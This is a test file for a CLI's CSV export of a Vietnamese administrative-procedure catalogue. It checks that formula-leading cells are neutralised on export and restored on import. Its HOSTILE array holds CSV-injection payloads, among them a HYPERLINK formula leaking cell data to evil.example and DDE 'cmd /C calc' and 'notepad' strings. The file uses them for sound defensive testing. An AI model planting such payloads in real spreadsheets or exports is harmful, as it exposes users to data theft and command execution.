import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { runCli } from "../../functions/cli/main";
import { parseCsv } from "../../functions/core/csv";
import { agencyCode, procedureCode, uniqueTag } from "../support/catalogue-fixture";
import { startLocalStores, type LocalStores } from "../support/local-stores";

/** Issue #18 item 3: catalogue text that a spreadsheet would run comes out of the CLI's CSV export inert, and back in intact. */

let local: LocalStores;
let dir: string;
let saved: NodeJS.ProcessEnv;
beforeAll(async () => {
  local = await startLocalStores();
  dir = mkdtempSync(join(tmpdir(), "dvc-csv-injection-"));
  saved = { ...process.env };
  Object.assign(process.env, local.env);
});
afterAll(async () => {
  process.env = saved;
  await local?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

async function cli(args: string[]) {
  const out: string[] = [];
  const err: string[] = [];
  const log = vi.spyOn(console, "log").mockImplementation((...a: unknown[]) => void out.push(a.join(" ")));
  const error = vi.spyOn(console, "error").mockImplementation((...a: unknown[]) => void err.push(a.join(" ")));
  try {
    return { code: await runCli(args), out, err };
  } finally {
    log.mockRestore();
    error.mockRestore();
  }
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "'=already guarded by hand",
];

describe("catalogue CSV export through the CLI", () => {
  it("neutralises every cell a spreadsheet would run, and imports back unchanged", async () => {
    const tag = uniqueTag();
    const agency = agencyCode(tag, 1);
    const procedures = HOSTILE.map((name, i) => ({
      code: procedureCode(tag, i),
      name,
      field: "Hộ tịch",
      agencyCode: agency,
      level: "partial",
      processingDays: 3,
      fee: { amount: 0, serviceFee: 0, charge: 0, note: i % 2 ? "\t=1+1" : "\r=1+1 (tab and CR start formulas too)" },
      documents: [{ key: "to-khai", name: "=cmd|' /C notepad'!A0", required: true }],
      resultDelivery: ["in_person"],
      legalBasis: "- Luật Hộ tịch 2014\n- Nghị định 123/2015/NĐ-CP",
    }));
    const source = join(dir, `catalogue-${tag}.json`);
    writeFileSync(source, JSON.stringify({ agencies: [{ code: agency, name: "=1+1 Sở Tư pháp", tier: "department" }], procedures }));
    const imported = await cli(["catalogue", "import", source]);
    expect(imported.code, imported.err.join("\n")).toBe(0);

    const csvFile = join(dir, `export-${tag}.csv`);
    expect((await cli(["catalogue", "export", "--out", csvFile])).code).toBe(0);
    const text = readFileSync(csvFile, "utf8");
    // As a spreadsheet sees the file: every cell of ours that starts with a formula character is quoted and guarded.
    for (const name of [...HOSTILE.slice(0, 4), "=1+1 Sở Tư pháp", "- Luật Hộ tịch 2014"]) {
      expect(text).toContain(`"'${name.replace(/"/g, '""')}`);
      expect(text).not.toMatch(new RegExp(`(^|[,;\\n])${escapeRegExp(name.replace(/"/g, '""'))}`));
    }
    expect(text).toContain(`"''=already guarded by hand"`);
    expect(text).toContain(`"'\t=1+1"`);
    for (const record of parseRawCells(text)) {
      for (const cell of record) expect(/^[=+\-@\t\r]/.test(cell), `a live formula cell: ${JSON.stringify(cell)}`).toBe(false);
    }
    // The reader takes the guard off: the rows come back as they were.
    const names = parseCsv(text).map((r) => r.cells[2]);
    for (const name of HOSTILE) expect(names).toContain(name);

    const again = await cli(["catalogue", "import", csvFile]);
    expect(again.code, again.err.join("\n")).toBe(0);
    expect(JSON.parse(again.out.at(-1)!)).toMatchObject({ created: 0, updated: 0 });
    for (const [i, name] of HOSTILE.entries()) {
      const stored = await local.adapters.catalogue.getProcedure(procedureCode(tag, i));
      expect(stored?.name).toBe(name);
      expect(stored?.documents[0]?.name).toBe("=cmd|' /C notepad'!A0");
      expect(stored?.legalBasis).toBe("- Luật Hộ tịch 2014\n- Nghị định 123/2015/NĐ-CP");
    }
  });
});

const escapeRegExp = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");

/** Each cell as the file holds it, quotes removed: what a spreadsheet evaluates. */
function parseRawCells(text: string): string[][] {
  // parseCsv would take the guard off; read the cells without that step.
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = text.startsWith("\uFEFF") ? 1 : 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") row.push(cell), (cell = "");
    else if (ch === "\r" && text[i + 1] === "\n") row.push(cell), rows.push(row), (row = []), (cell = ""), i++;
    else cell += ch;
  }
  return rows;
}

describe("names at import", () => {
  it.each([
    ["a NUL", "Sở Tư pháp\u0000"],
    ["a lone surrogate", "Sở Tư pháp \ud800"],
  ])("refuses an agency name with %s, naming the row and the field, and writes nothing", async (_, name) => {
    const tag = uniqueTag();
    const file = join(dir, `names-${tag}.json`);
    writeFileSync(file, JSON.stringify({ agencies: [{ code: agencyCode(tag, 1), name, tier: "department" }], procedures: [] }));
    const run = await cli(["catalogue", "import", file]);
    expect(run.code).toBe(1);
    expect(run.err.join("\n")).toMatch(/agencies row 1 .*name: Contains an invalid character/);
    expect((await local.adapters.catalogue.load()).agencies.map((a) => a.code)).not.toContain(agencyCode(tag, 1));
  });
});
